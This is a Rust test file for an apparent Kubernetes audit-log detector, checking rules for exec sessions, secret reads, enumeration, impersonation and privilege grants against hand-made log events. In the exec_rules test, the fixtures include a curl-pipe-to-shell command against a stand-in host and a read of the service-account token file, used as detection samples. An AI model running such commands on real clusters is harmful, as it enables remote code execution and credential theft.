//! The lenses and the rules on small hand-made logs: each rule on a case that
//! must fire and one that must not, and incremental updates equal to a
//! one-shot build.

use super::exec::Outcome;
use super::findings::{Finding, Severity, findings};
use super::*;
use crate::parse::{Batch, parse_chunk};
use serde_json::{Value, json};

/// An event: `t` seconds after 2026-11-21T10:00:00Z; `extra` is merged in.
// A fixture builder: the positions read like an audit line's fields.
#[allow(clippy::too_many_arguments)]
fn ev(
    id: u32,
    stage: &str,
    t: u32,
    user: &str,
    verb: &str,
    obj: Value,
    code: u16,
    extra: Value,
) -> String {
    let ts = |s: u32| {
        format!(
            "2026-11-21T{:02}:{:02}:{:02}.000000Z",
            10 + s / 3600,
            s / 60 % 60,
            s % 60
        )
    };
    let mut e = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
        "auditID": format!("00000000-0000-4000-8000-{id:012}"), "stage": stage, "verb": verb,
        "requestURI": "/", "user": if user.is_empty() { json!({}) } else { json!({"username": user, "groups": ["system:authenticated"]}) },
        "sourceIPs": ["10.0.0.1"], "userAgent": "kubectl/v1.31.0", "responseStatus": {"code": code},
        "requestReceivedTimestamp": ts(t), "stageTimestamp": ts(t),
    });
    if code == 0 {
        e.as_object_mut().map(|o| o.remove("responseStatus"));
    }
    if !obj.is_null() {
        e["objectRef"] = obj;
    }
    if let (Some(e), Some(x)) = (e.as_object_mut(), extra.as_object()) {
        for (k, v) in x {
            e.insert(k.clone(), v.clone());
        }
    }
    e.to_string()
}

fn obj(res: &str, sub: &str, ns: &str, name: &str) -> Value {
    let mut o = json!({"resource": res, "apiVersion": "v1"});
    for (k, v) in [("subresource", sub), ("namespace", ns), ("name", name)] {
        if !v.is_empty() {
            o[k] = json!(v);
        }
    }
    o
}

fn load(idx: &mut Index, lines: &[String]) {
    let mut b = Batch::default();
    parse_chunk(lines.join("\n").as_bytes(), 0, &mut b);
    assert!(b.skipped.is_empty(), "{:?}", b.skipped);
    idx.apply(&b);
}

fn index_of(lines: &[String]) -> Index {
    let mut idx = Index::new();
    load(&mut idx, lines);
    idx
}

fn all_findings(lines: &[String]) -> Vec<Finding> {
    let idx = index_of(lines);
    let mut l = Lenses::default();
    l.update(&idx);
    findings(&idx, &l)
}

fn fired(f: &[Finding], rule: &str, subject: &str) -> bool {
    f.iter().any(|x| x.rule.id == rule && x.subject == subject)
}

const NONE: Value = Value::Null;

fn exec_uri(cmd: &str, tty: bool) -> Value {
    let args: Vec<String> = cmd
        .split(' ')
        .map(|a| format!("command={}", a.replace('/', "%2F")))
        .collect();
    json!({"requestURI": format!("/api/v1/namespaces/p/pods/x/exec?{}&container=app&stdin=true{}", args.join("&"), if tty { "&tty=true" } else { "" })})
}

#[test]
fn exec_sessions_pair_their_stages() {
    let pod = || obj("pods", "exec", "p", "x");
    let lines = vec![
        ev(
            1,
            "ResponseStarted",
            0,
            "alice",
            "create",
            pod(),
            101,
            exec_uri("sh -c id", true),
        ),
        ev(
            2,
            "ResponseStarted",
            5,
            "alice",
            "create",
            pod(),
            101,
            exec_uri("ls", false),
        ),
        ev(
            3,
            "ResponseStarted",
            9,
            "bob",
            "create",
            pod(),
            403,
            exec_uri("bash", true),
        ),
        ev(
            3,
            "ResponseComplete",
            9,
            "bob",
            "create",
            pod(),
            403,
            exec_uri("bash", true),
        ),
        ev(
            4,
            "ResponseComplete",
            12,
            "bob",
            "get",
            pod(),
            500,
            exec_uri("ls", false),
        ),
        ev(
            5,
            "ResponseStarted",
            20,
            "carol",
            "create",
            obj("pods", "portforward", "p", "db-0"),
            101,
            json!({"requestURI": "/api/v1/namespaces/p/pods/db-0/portforward?ports=5432"}),
        ),
        ev(
            1,
            "ResponseComplete",
            90,
            "alice",
            "create",
            pod(),
            101,
            exec_uri("sh -c id", true),
        ),
    ];
    let idx = index_of(&lines);
    let l = Lenses::of(&idx, &(0..idx.requests.len() as u32).collect::<Vec<_>>());
    let s: Vec<_> = l.exec.sorted().collect();
    assert_eq!(s.len(), 5);
    assert_eq!(
        (
            s[0].params.command.clone(),
            s[0].params.container.as_str(),
            s[0].params.tty
        ),
        (
            vec!["sh".to_string(), "-c".into(), "id".into()],
            "app",
            true
        )
    );
    assert_eq!(
        (s[0].outcome, s[0].duration_s()),
        (Outcome::Allowed, Some(90.0))
    );
    assert_eq!(
        (s[1].outcome, s[1].end),
        (Outcome::Open, None),
        "no ResponseComplete: open"
    );
    assert_eq!(s[2].outcome, Outcome::Denied);
    assert_eq!(s[3].outcome, Outcome::Failed);
    assert_eq!(s[4].params.ports, ["5432"]);
}

#[test]
fn incremental_updates_equal_a_one_shot_build() {
    let pod = || obj("pods", "exec", "p", "x");
    let first = vec![
        ev(
            1,
            "ResponseStarted",
            0,
            "alice",
            "create",
            pod(),
            101,
            exec_uri("sh", true),
        ),
        ev(
            2,
            "ResponseComplete",
            1,
            "bob",
            "list",
            obj("secrets", "", "", ""),
            403,
            NONE,
        ),
        ev(
            3,
            "ResponseComplete",
            2,
            "bob",
            "get",
            obj("secrets", "", "a", "s1"),
            200,
            NONE,
        ),
    ];
    let second = vec![
        ev(
            1,
            "ResponseComplete",
            60,
            "alice",
            "create",
            pod(),
            101,
            exec_uri("sh", true),
        ),
        ev(
            4,
            "ResponseComplete",
            61,
            "bob",
            "get",
            obj("secrets", "", "a", "s2"),
            403,
            NONE,
        ),
    ];
    let mut idx = Index::new();
    let mut l = Lenses::default();
    load(&mut idx, &first);
    l.update(&idx);
    assert_eq!(
        l.exec.sorted().next().map(|s| s.outcome),
        Some(Outcome::Open)
    );
    load(&mut idx, &second);
    l.update(&idx);
    let once = Lenses::of(&idx, &(0..idx.requests.len() as u32).collect::<Vec<_>>());
    let view = |l: &Lenses| {
        let s: Vec<_> = l.exec.sorted().map(|s| (s.req, s.outcome, s.end)).collect();
        let mut u: Vec<_> = l
            .secrets
            .users
            .iter()
            .map(|(k, v)| (*k, v.reads, v.writes, v.denied, v.all_namespaces))
            .collect();
        u.sort();
        let d: Vec<_> = l
            .denied
            .by_user(&idx)
            .iter()
            .map(|u| (u.user, u.requests, u.attempts.len()))
            .collect();
        (s, u, d)
    };
    assert_eq!(view(&l), view(&once));
    assert_eq!(
        l.exec.sorted().next().map(|s| s.outcome),
        Some(Outcome::Allowed),
        "the later stage closed the session"
    );
}

#[test]
fn secrets_are_keyed_as_the_spec_says() {
    let lines = vec![
        ev(
            1,
            "ResponseComplete",
            0,
            "alice",
            "get",
            obj("secrets", "", "a", "s1"),
            200,
            NONE,
        ),
        ev(
            2,
            "ResponseComplete",
            1,
            "alice",
            "list",
            obj("secrets", "", "a", ""),
            200,
            NONE,
        ),
        // A kubelet's watch names its secret through a field selector: still a collection request.
        ev(
            3,
            "ResponseStarted",
            2,
            "system:node:n1",
            "watch",
            obj("secrets", "", "a", "s1"),
            200,
            NONE,
        ),
        ev(
            4,
            "ResponseComplete",
            3,
            "alice",
            "list",
            obj("secrets", "", "", ""),
            200,
            NONE,
        ),
        ev(
            5,
            "ResponseComplete",
            4,
            "alice",
            "create",
            obj("secrets", "", "a", "s2"),
            201,
            NONE,
        ),
        ev(
            6,
            "ResponseComplete",
            5,
            "bob",
            "get",
            obj("secrets", "", "a", "s1"),
            403,
            NONE,
        ),
    ];
    let idx = index_of(&lines);
    let mut l = Lenses::default();
    l.update(&idx);
    let keys: Vec<(String, String, usize)> = l
        .secrets
        .secrets_sorted(&idx)
        .iter()
        .map(|((ns, n), r)| (idx.s(*ns).to_string(), idx.s(*n).to_string(), r.len()))
        .collect();
    assert!(keys.contains(&("a".into(), "s1".into(), 2)), "{keys:?}");
    assert!(
        keys.contains(&("a".into(), "".into(), 2)),
        "list and the kubelet's watch: {keys:?}"
    );
    assert!(keys.contains(&("".into(), "".into(), 1)));
    let alice = &l.secrets.users[&idx.syms.get("alice").unwrap_or_default()];
    assert_eq!(
        (
            alice.reads,
            alice.writes,
            alice.denied,
            alice.all_namespaces > 0
        ),
        (3, 1, 0, true)
    );
    let bob = &l.secrets.users[&idx.syms.get("bob").unwrap_or_default()];
    assert_eq!((bob.reads, bob.denied), (1, 1));
}

#[test]
fn refusals_by_user_and_by_source() {
    let lines = vec![
        ev(
            1,
            "ResponseComplete",
            0,
            "bob",
            "get",
            obj("pods", "", "x", "p"),
            403,
            json!({"annotations": {"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""}}),
        ),
        ev(
            2,
            "ResponseComplete",
            1,
            "bob",
            "get",
            obj("pods", "", "x", "p"),
            403,
            NONE,
        ),
        ev(
            3,
            "ResponseComplete",
            2,
            "bob",
            "list",
            obj("nodes", "", "", ""),
            403,
            NONE,
        ),
        ev(
            4,
            "ResponseStarted",
            3,
            "",
            "get",
            NONE,
            401,
            json!({"sourceIPs": ["1.2.3.4"], "userAgent": "zgrab", "requestURI": "/api"}),
        ),
        ev(
            5,
            "ResponseStarted",
            4,
            "",
            "get",
            NONE,
            401,
            json!({"sourceIPs": ["1.2.3.4"], "userAgent": "zgrab", "requestURI": "/version"}),
        ),
    ];
    let idx = index_of(&lines);
    let mut l = Lenses::default();
    l.update(&idx);
    let users = l.denied.by_user(&idx);
    assert_eq!(users.len(), 1);
    assert_eq!(
        (
            users[0].requests,
            users[0].attempts.len(),
            users[0].attempts[0].requests
        ),
        (3, 2, 2)
    );
    let un = l.denied.unauthenticated(&idx);
    assert_eq!(
        (idx.s(un[0].ip), idx.s(un[0].agent), un[0].requests),
        ("1.2.3.4", "zgrab", 2)
    );
    assert_eq!(
        un[0].paths.iter().map(|p| idx.s(*p)).collect::<Vec<_>>(),
        ["/api", "/version"]
    );
}

#[test]
fn enumeration_needs_many_actions_mostly_refused() {
    let resources = [
        "pods",
        "nodes",
        "secrets",
        "configmaps",
        "roles",
        "rolebindings",
        "clusterroles",
        "deployments",
        "services",
    ];
    let mut lines = Vec::new();
    for (i, r) in resources.iter().enumerate() {
        lines.push(ev(
            i as u32 + 1,
            "ResponseComplete",
            i as u32 * 5,
            "mallory",
            "list",
            obj(r, "", "", ""),
            403,
            NONE,
        ));
        // Dave is refused as often, but among many allowed requests.
        lines.push(ev(
            100 + i as u32,
            "ResponseComplete",
            i as u32 * 5,
            "dave",
            "list",
            obj(r, "", "", ""),
            403,
            NONE,
        ));
        for k in 0..3 {
            lines.push(ev(
                200 + i as u32 * 3 + k,
                "ResponseComplete",
                i as u32 * 5 + 1,
                "dave",
                "get",
                obj("pods", "", "d", "p"),
                200,
                NONE,
            ));
        }
    }
    let f = all_findings(&lines);
    assert!(fired(&f, "denied-enumeration", "mallory"));
    assert!(
        !fired(&f, "denied-enumeration", "dave"),
        "a quarter refused is not enumeration"
    );
}

#[test]
fn refused_then_allowed_names_the_grant() {
    let binding = json!({"level": "RequestResponse", "requestObject": {"kind": "RoleBinding", "roleRef": {"kind": "ClusterRole", "name": "edit"}, "subjects": [{"kind": "User", "name": "eve"}]}});
    let lines = vec![
        ev(
            1,
            "ResponseComplete",
            0,
            "eve",
            "list",
            obj("pods", "", "ns1", ""),
            403,
            NONE,
        ),
        ev(
            2,
            "ResponseComplete",
            60,
            "admin",
            "create",
            obj("rolebindings", "", "ns1", "eve-edit"),
            201,
            binding,
        ),
        ev(
            3,
            "ResponseComplete",
            120,
            "eve",
            "list",
            obj("pods", "", "ns1", ""),
            200,
            NONE,
        ),
        // Frank's answers alternate: no clean turn, no finding.
        ev(
            4,
            "ResponseComplete",
            0,
            "frank",
            "get",
            obj("pods", "", "ns2", "a"),
            200,
            NONE,
        ),
        ev(
            5,
            "ResponseComplete",
            10,
            "frank",
            "get",
            obj("pods", "", "ns2", "b"),
            403,
            NONE,
        ),
        ev(
            6,
            "ResponseComplete",
            20,
            "frank",
            "get",
            obj("pods", "", "ns2", "c"),
            200,
            NONE,
        ),
    ];
    let f = all_findings(&lines);
    let eve = f
        .iter()
        .find(|x| x.rule.id == "denied-then-allowed" && x.subject == "eve")
        .expect("fires for eve");
    assert!(
        eve.summary
            .contains("RoleBinding ns1/eve-edit (ClusterRole edit) written by admin"),
        "{}",
        eve.summary
    );
    assert_eq!(eve.severity, Severity::High, "the binding names eve");
    assert_eq!(eve.evidence.len(), 3);
    assert!(!fired(&f, "denied-then-allowed", "frank"));
}

#[test]
fn secret_reading_rules() {
    let mut lines = Vec::new();
    for i in 0..5 {
        lines.push(ev(
            1 + i,
            "ResponseComplete",
            i * 30,
            "gina",
            "get",
            obj("secrets", "", "a", &format!("s{i}")),
            200,
            json!({"userAgent": "curl/8.5.0"}),
        ));
    }
    for i in 0..4 {
        lines.push(ev(
            10 + i,
            "ResponseComplete",
            i * 30,
            "hank",
            "get",
            obj("secrets", "", "a", &format!("s{i}")),
            200,
            NONE,
        ));
    }
    // An operator reading many secrets everywhere with its own client: routine.
    for i in 0..50 {
        lines.push(ev(
            100 + i,
            "ResponseComplete",
            i,
            "system:serviceaccount:certs:cert-manager",
            "get",
            obj("secrets", "", &format!("ns{i}"), "tls"),
            200,
            json!({"userAgent": "cert-manager/v1.14"}),
        ));
    }
    lines.push(ev(
        200,
        "ResponseComplete",
        300,
        "system:serviceaccount:certs:cert-manager",
        "list",
        obj("secrets", "", "", ""),
        200,
        json!({"userAgent": "cert-manager/v1.14"}),
    ));
    // The same token from curl is not.
    lines.push(ev(
        201,
        "ResponseComplete",
        400,
        "system:serviceaccount:certs:cert-manager",
        "get",
        obj("secrets", "", "prod", "db"),
        200,
        json!({"userAgent": "curl/8.5.0"}),
    ));
    lines.push(ev(
        202,
        "ResponseComplete",
        500,
        "ivy",
        "list",
        obj("secrets", "", "", ""),
        403,
        NONE,
    ));
    let f = all_findings(&lines);
    assert!(fired(&f, "secret-read-burst", "gina"));
    assert!(
        !fired(&f, "secret-read-burst", "hank"),
        "four secrets are not a burst"
    );
    assert!(fired(&f, "secret-read-by-script", "gina"));
    assert!(!fired(&f, "secret-read-by-script", "hank"));
    let sa = "system:serviceaccount:certs:cert-manager";
    let odd: Vec<_> = f.iter().filter(|x| x.subject == sa).collect();
    assert_eq!(odd.len(), 1, "{odd:?}");
    assert_eq!(
        (odd[0].rule.id, odd[0].evidence.len()),
        ("secret-read-unusual-client", 1)
    );
    assert!(
        odd[0].summary.contains("outside its own namespace"),
        "{}",
        odd[0].summary
    );
    assert!(fired(&f, "secret-list-all-namespaces", "ivy"));
    assert!(fired(&f, "secret-denied", "ivy"));
}

#[test]
fn exec_rules() {
    let pod = || obj("pods", "exec", "p", "x");
    let s = |id: u32, user: &str, cmd: &str, tty: bool| {
        vec![
            ev(
                id,
                "ResponseStarted",
                id,
                user,
                "create",
                pod(),
                101,
                exec_uri(cmd, tty),
            ),
            ev(
                id,
                "ResponseComplete",
                id + 1,
                user,
                "create",
                pod(),
                101,
                exec_uri(cmd, tty),
            ),
        ]
    };
    let mut lines = Vec::new();
    lines.extend(s(1, "shell", "bash", true));
    lines.extend(s(2, "notty", "sh -c ls", false));
    lines.extend(s(3, "copier", "tar cf - /data", false));
    lines.extend(s(4, "fetcher", "sh -c curl http://x.example/a|sh", false));
    lines.extend(s(
        5,
        "thief",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        false,
    ));
    lines.push(ev(
        6,
        "ResponseComplete",
        6,
        "refused",
        "create",
        pod(),
        403,
        exec_uri("bash", true),
    ));
    let f = all_findings(&lines);
    assert!(fired(&f, "exec-shell", "shell"));
    assert!(
        !fired(&f, "exec-shell", "notty"),
        "no terminal, not interactive"
    );
    assert!(fired(&f, "exec-copy", "copier"));
    assert!(fired(&f, "exec-fetch-exfil", "fetcher"));
    assert!(fired(&f, "exec-fetch-exfil", "thief"));
    assert!(
        f.iter().all(|x| x.subject != "refused"),
        "a refused exec ran nothing"
    );
}

#[test]
fn access_rules() {
    let anon = |id: u32, uri: &str, o: Value| {
        ev(
            id,
            "ResponseComplete",
            id,
            "system:anonymous",
            "get",
            o,
            200,
            json!({"requestURI": uri, "sourceIPs": ["9.9.9.9"], "user": {"username": "system:anonymous", "groups": ["system:unauthenticated"]}}),
        )
    };
    let crb = |name: &str, role: &str| json!({"level": "RequestResponse", "requestObject": {"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": role}, "subjects": [{"kind": "User", "name": name}]}});
    let lines = vec![
        anon(1, "/healthz", NONE),
        anon(2, "/readyz", NONE),
        anon(
            3,
            "/api/v1/namespaces/default/pods",
            obj("pods", "", "default", ""),
        ),
        ev(
            4,
            "ResponseComplete",
            4,
            "pat",
            "get",
            obj("pods", "", "a", "p"),
            200,
            json!({"impersonatedUser": {"username": "bob", "groups": ["system:masters"]}}),
        ),
        ev(
            5,
            "ResponseComplete",
            5,
            "quinn",
            "get",
            obj("pods", "", "a", "p"),
            200,
            json!({"impersonatedUser": {"username": "bob", "groups": ["dev"]}}),
        ),
        ev(
            6,
            "ResponseComplete",
            6,
            "root",
            "create",
            obj("clusterrolebindings", "", "", "r-admin"),
            201,
            crb("rick", "cluster-admin"),
        ),
        ev(
            7,
            "ResponseComplete",
            7,
            "root",
            "create",
            obj("clusterrolebindings", "", "", "s-view"),
            201,
            crb("sam", "view"),
        ),
        ev(
            8,
            "ResponseComplete",
            8,
            "tina",
            "create",
            obj("serviceaccounts", "token", "ci", "deployer"),
            201,
            NONE,
        ),
        ev(
            9,
            "ResponseComplete",
            9,
            "system:node:n1",
            "create",
            obj("serviceaccounts", "token", "ci", "deployer"),
            201,
            NONE,
        ),
        ev(
            10,
            "ResponseComplete",
            10,
            "uma",
            "update",
            obj("certificatesigningrequests", "approval", "", "csr-1"),
            200,
            NONE,
        ),
        ev(
            11,
            "ResponseComplete",
            11,
            "system:kube-controller-manager",
            "update",
            obj("certificatesigningrequests", "approval", "", "csr-2"),
            200,
            NONE,
        ),
    ];
    let f = all_findings(&lines);
    let anon: Vec<_> = f
        .iter()
        .filter(|x| x.rule.id == "anonymous-allowed")
        .collect();
    assert_eq!(
        (anon.len(), anon[0].evidence.len()),
        (1, 1),
        "health checks are not findings"
    );
    assert!(
        fired(&f, "impersonate-privileged", "pat") && !fired(&f, "impersonate-privileged", "quinn")
    );
    let bind: Vec<_> = f
        .iter()
        .filter(|x| x.rule.id == "bind-cluster-admin")
        .collect();
    assert_eq!(bind.len(), 1);
    assert!(bind[0].summary.contains("User rick"), "{}", bind[0].summary);
    assert!(fired(&f, "token-minted", "tina") && !fired(&f, "token-minted", "system:node:n1"));
    assert!(
        fired(&f, "csr-approved", "uma")
            && !fired(&f, "csr-approved", "system:kube-controller-manager")
    );
}
